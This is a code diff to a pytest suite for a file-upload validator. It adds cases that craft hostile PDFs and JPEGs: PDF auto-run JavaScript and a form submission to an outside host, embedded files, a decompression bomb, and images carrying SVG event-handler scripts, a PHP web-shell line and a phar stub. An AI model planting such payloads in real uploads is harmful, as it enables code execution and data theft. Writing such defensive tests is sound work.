@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import zlib
 from typing import TYPE_CHECKING
 
 import pytest
@@ -14,6 +15,22 @@ if TYPE_CHECKING:
 
 SCRIPT = b"<script>alert(1)</script>"
 SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+
+
+def acting(action: bytes) -> bytes:
+    """A document that does something once it is opened."""
+    return good("pdf").replace(b"/Catalog", b"/Catalog/OpenAction<<" + action + b">>")
+
+
+def packed(objects: bytes) -> bytes:
+    """A document some objects of which are packed, as most programs write them."""
+    stream = zlib.compress(b"1 0 " + objects, 9)
+    head = b"3 0 obj<</Type/ObjStm/N 1/First 4/Length %d/Filter/FlateDecode>>stream\r\n" % len(stream)
+    return good("pdf").replace(b"trailer", head + stream + b"\nendstream endobj\ntrailer")
+
+
+def test_a_document_whose_objects_are_packed_passes(tmp_path: Path) -> None:
+    check(tmp_path, packed(b"<</Type/Catalog/Pages 2 0 R>>"), "pdf")
 
 
 def check(folder: Path, content: bytes, extension: str) -> None:
@@ -86,17 +103,32 @@ def test_nothing_may_be_missing(tmp_path: Path, extension: str) -> None:
         (jpeg_with(b"<?php system($_GET[1]); ?>"), "jpg", "script"),
         (jpeg_with(b"%PDF-1.4"), "jpg", "PDF"),
         (jpeg_with(archive()), "jpg", "ZIP"),
-        (
-            good("pdf").replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
-            "pdf",
-            "script",
-        ),
+        (acting(b"/S/JavaScript/JS(app.alert(1))"), "pdf", "script"),
+        (acting(b"/S/J#61vaScript/JS(app.alert(1))"), "pdf", "script"),
+        (acting(b"/S/SubmitForm/F(https://elsewhere.example)"), "pdf", "script"),
+        (good("pdf").replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 5 0 R>>"), "pdf", "script"),
+        (packed(b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"), "pdf", "script"),
+        (packed(b"\0" * (64 * 1024 * 1024 + 1)), "pdf", "unfolds to more"),
+        (packed(b"<</Type/Catalog>>").replace(b"x\xda", b"no"), "pdf", "cannot be looked into"),
+        (jpeg_with(b"<svg/onload=alert(1)>"), "jpg", "script"),
+        (jpeg_with(b'<img src="x" onerror = "alert(1)">'), "jpg", "script"),
+        (jpeg_with(b"<?php @unlink(1); __HALT_COMPILER(); ?>"), "jpg", "script"),
         (b"<!-- -->" + good("pdf"), "pdf", "web page"),
         (b"\x1a\x45\xdf\xa3\x85matro", "webm", "Matroska"),
     ],
     ids=[
         *("svg", "svg-as-pdf", "gif", "program", "zip", "three-bytes", "one-byte", "comment-script"),
-        *("comment-php", "comment-pdf", "comment-zip", "pdf-script", "pdf-later", "matroska"),
+        *("comment-php", "comment-pdf", "comment-zip", "pdf-script", "pdf-spelt", "pdf-form", "pdf-files"),
+        *(
+            "pdf-packed",
+            "pdf-bomb",
+            "pdf-odd",
+            "comment-svg",
+            "comment-handler",
+            "phar",
+            "pdf-later",
+            "matroska",
+        ),
     ],
 )
 def test_what_is_hostile_is_refused_with_the_reason(
